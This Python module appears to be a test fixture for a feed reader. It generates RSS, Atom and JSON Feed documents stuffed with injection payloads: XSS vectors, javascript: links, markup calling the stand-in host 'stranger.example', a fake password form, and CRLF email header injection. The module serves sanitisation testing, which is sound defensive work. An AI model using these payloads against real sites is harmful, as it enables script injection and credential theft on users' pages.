"""What a feed may write to do harm where it is shown: each would set `__ran`, ask a stranger or break a page.

One list for all ways out. In a document each stands in every field a feed can write, once as markup, once
so that it survives the reading of the document as text.
"""

from __future__ import annotations

import json
from html import escape

RAN = "window.__ran=1"
STRANGER = "http://stranger.example"
_LONG = "Chancay" * 40

SCRIPTS = (
    f"<script>{RAN}</script>",
    f"</title><script>{RAN}</script>",
    f"</textarea></style></noscript><script>{RAN}</script>",
    f"--></script><script>{RAN}</script>",
    f"<ScRiPt src={STRANGER}/x.js></sCrIpT>",
    f"<img src=x onerror={RAN}>",
    f"<img src=x:x onerror='{RAN}' alt=\"",
    f"<svg onload={RAN}>",
    f"<svg><script>{RAN}</script></svg>",
    f"<svg><animate onbegin={RAN} attributeName=x dur=1s>",
    f"<math><mtext></mtext><mglyph><style><img src=x onerror={RAN}></style></mglyph></math>",
    f"<body onload={RAN}>",
    f"<details open ontoggle={RAN}>",
    f"<input autofocus onfocus={RAN}>",
    f"<video><source onerror={RAN}></video>",
    f"<audio src=x onerror={RAN}>",
    f"<iframe srcdoc='<script>parent.{RAN[7:]}</script>'></iframe>",
    f"<iframe src=javascript:{RAN}></iframe>",
    f"<object data=javascript:{RAN}></object>",
    f"<embed src=javascript:{RAN}>",
    f"<a href=javascript:{RAN} autofocus>news</a>",
    f"<marquee onstart={RAN}>",
    f"<template><script>{RAN}</script></template>",
    f'" onmouseover={RAN} x="',
    f"' autofocus onfocus={RAN} x='",
    f"`onfocus={RAN} autofocus",
    f"</bdi></a><script>{RAN}</script>",
    f"<!--><script>{RAN}</script>-->",
    f"<![CDATA[<script>{RAN}</script>]]>",
    f"+ADw-script+AD4-{RAN}+ADw-/script+AD4-",
    f"＜script＞{RAN}＜/script＞",
    f"<scr\0ipt>{RAN}</scr\0ipt>",
    f"&lt;script&gt;{RAN}&lt;/script&gt;",
    f"&#60;img src=x onerror={RAN}&#62;",
    f"';{RAN};//",
    f'";{RAN};//',
    f"</script><script>{RAN}//",
    f"\u2028{RAN}\u2029",
    f"${{{RAN}}}",
    f"{{{{constructor.constructor('{RAN}')()}}}}",
)
MARKUP = (
    f"<style>@import '{STRANGER}/x.css'; body {{ display: none }}</style>",
    f"<link rel=stylesheet href={STRANGER}/x.css>",
    f"<p style='background:url({STRANGER}/x.png);position:fixed;inset:0'>over all</p>",
    f"<base href={STRANGER}/>",
    f"<meta http-equiv=refresh content='0;url={STRANGER}/'>",
    f"<form action={STRANGER}/take><input name=password><button>Sign in</button></form>",
    f"<img src={STRANGER}/pixel.png>",
    f"<picture><source srcset={STRANGER}/x.png><img></picture>",
    "<h1>Another first heading</h1>",
    "<div id=content>clobbered</div>",
    "<a id=documentElement><a id=body name=forms>",
    "</main></div></body></html>",
    "<plaintext>",
    "<xmp>",
    "<title>Another title</title>",
    "{{ 7*7 }}{% raw %}{#",
    "{0.__class__}%s%(name)s",
)
HEADERS = (
    "\r\nBcc: all@stranger.example\r\n\r\n",
    "\nSet-Cookie: a=b",
    "=?utf-8?B?PHNjcmlwdD4=?=",
    "\0\x1b[31m\x07",
)
CHATS = (
    f"[click]({STRANGER}) ![x]({STRANGER}/x.png)",
    "**bold** _it_ `code` ~~no~~ # head",
    f"<{STRANGER}|click> <!channel> <!everyone>",
    "@everyone @here <@1234> <@&99> @room",
    "/quit bye\r\nJOIN #other",
    "\x0304red\x02bold",
    "\n.\n",
)
SIGNS = (
    "\u202egnorw\u202c",
    "\u2066isolated",
    "\u200bzero\u200dwidth\ufeff",
    "Z\u0351\u036b\u0343\u036aalgo" + "\u0300" * 60,
    "רכבת האמזונס (Amazonas) יוצאת",
    _LONG,
    "🏴\U000e0067\U000e0062" * 3,
    "\ud800".encode("utf-8", "replace").decode() + "\ufffe",
)
LINKS = (
    f"javascript:{RAN}",
    f"JaVaScRiPt:{RAN}",
    f"java\tscript:{RAN}",
    f"\x01javascript:{RAN}",
    f"data:text/html,<script>{RAN}</script>",
    f"vbscript:{RAN}",
    "file:///etc/hostname",
    f'//stranger.example/" onmouseover="{RAN}',
    f"https://news.example/'><script>{RAN}</script>",
    f"blob:{STRANGER}/x",
)
TEXTS = (*SCRIPTS, *MARKUP, *HEADERS, *CHATS, *SIGNS)


def survives(text: str) -> str:
    """Write a text so that it is still whole after a document was read: feeds are unescaped three times."""
    return escape(escape(escape(text)))


def headline(kind: str, number: int, text: str) -> str:
    """Give the headline of the item with a payload; by its mark a page is known to show it."""
    return f"Huelga de estibadores cierra el puerto {kind}{number:03} {text}"


def rss(at: str, *, later: int = 0) -> str:
    """Write an RSS document with an item for each payload, in all that an item and its channel can say.

    `later` is what it says once its headlines were changed: each has the payload so many further on.
    """
    titles = [_xml(TEXTS[(number + later) % len(TEXTS)]) for number in range(len(TEXTS))]
    items = "".join(_rss_item(number, _xml(text), titles[number], at) for number, text in enumerate(TEXTS))
    evil = survives(_xml(SCRIPTS[5]))
    return (
        '<?xml version="1.0"?><rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/" '
        'xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel>'
        f"<title>{evil}</title><link>javascript:{RAN}</link><description>{evil}</description>"
        f'<language>es"&gt;{evil}</language><generator>{evil}</generator><copyright>{evil}</copyright>'
        f"<image><url>javascript:{RAN}</url><title>{evil}</title></image><ttl>{evil}</ttl>"
        f"{items}</channel></rss>"
    )


def _rss_item(number: int, text: str, title: str, at: str) -> str:
    link = _xml(LINKS[number % len(LINKS)])
    raw = text.replace("]]>", "]]&gt;")
    date = escape(text) if number % 7 == 6 else at
    return (
        f"<item><guid isPermaLink='false'>{escape(text)}{number}</guid><link>{escape(link)}</link>"
        f"<title>{headline('R', number, survives(title))}</title>"
        f"<description>{escape(text)} {escape(escape(text))} {survives(text)}</description>"
        f"<content:encoded><![CDATA[{raw}]]></content:encoded>"
        f"<author>{survives(text)}</author><dc:creator>{survives(text)}</dc:creator>"
        f"<category domain='{escape(text)}'>{survives(text)}</category>"
        f"<pubDate>{date}</pubDate>"
        f"<dc:language>{escape(text)}</dc:language><source url='{escape(link)}'>{survives(text)}</source>"
        f"<comments>{escape(link)}</comments><enclosure url='{escape(link)}' type='{escape(text)}'/></item>"
    )


def atom(at: str) -> str:
    """Write an Atom document with the same, where markup is said to be markup."""
    evil = survives(_xml(SCRIPTS[0]))
    return (
        f'<feed xmlns="http://www.w3.org/2005/Atom" xml:lang="{evil}"><id>{evil}</id>'
        f'<title type="html">{evil}</title><subtitle type="html">{evil}</subtitle>'
        + "".join(_atom_entry(number, _xml(text), at) for number, text in enumerate(TEXTS))
        + "</feed>"
    )


def _atom_entry(number: int, text: str, at: str) -> str:
    link = escape(_xml(LINKS[number % len(LINKS)]))
    return (
        f'<entry xml:lang="{escape(text)}"><id>{escape(text)}{number}</id>'
        f'<link href="{link}" title="{link}"/>'
        f'<title type="html">{headline("A", number, survives(text))}</title>'
        f"<published>{at}</published>"
        f'<summary type="html">{escape(text)}</summary><content type="html">{survives(text)}</content>'
        f"<author><name>{survives(text)}</name><uri>{link}</uri></author><rights>{survives(text)}</rights>"
        f'<category term="{escape(text)}" label="{escape(text)}"/></entry>'
    )


def json_feed(at: str) -> str:
    """Write a JSON Feed with the same, control characters among them."""
    return json.dumps(
        {
            "version": "https://jsonfeed.org/version/1.1",
            "title": SCRIPTS[0],
            "home_page_url": LINKS[0],
            "language": MARKUP[0],
            "items": [
                {
                    "id": f"{text}{number}",
                    "url": LINKS[number % len(LINKS)],
                    "title": headline("J", number, escape(escape(text))),
                    "content_html": text,
                    "summary": escape(escape(text)),
                    "date_published": at,
                    "authors": [{"name": escape(escape(text)), "url": LINKS[0]}],
                    "tags": [text],
                }
                for number, text in enumerate(TEXTS)
            ],
        }
    )


def _xml(text: str) -> str:
    """Leave out what no XML document can hold."""
    return "".join(one for one in text if one in "\t\n\r" or (one >= " " and one not in "\ufffe\uffff"))
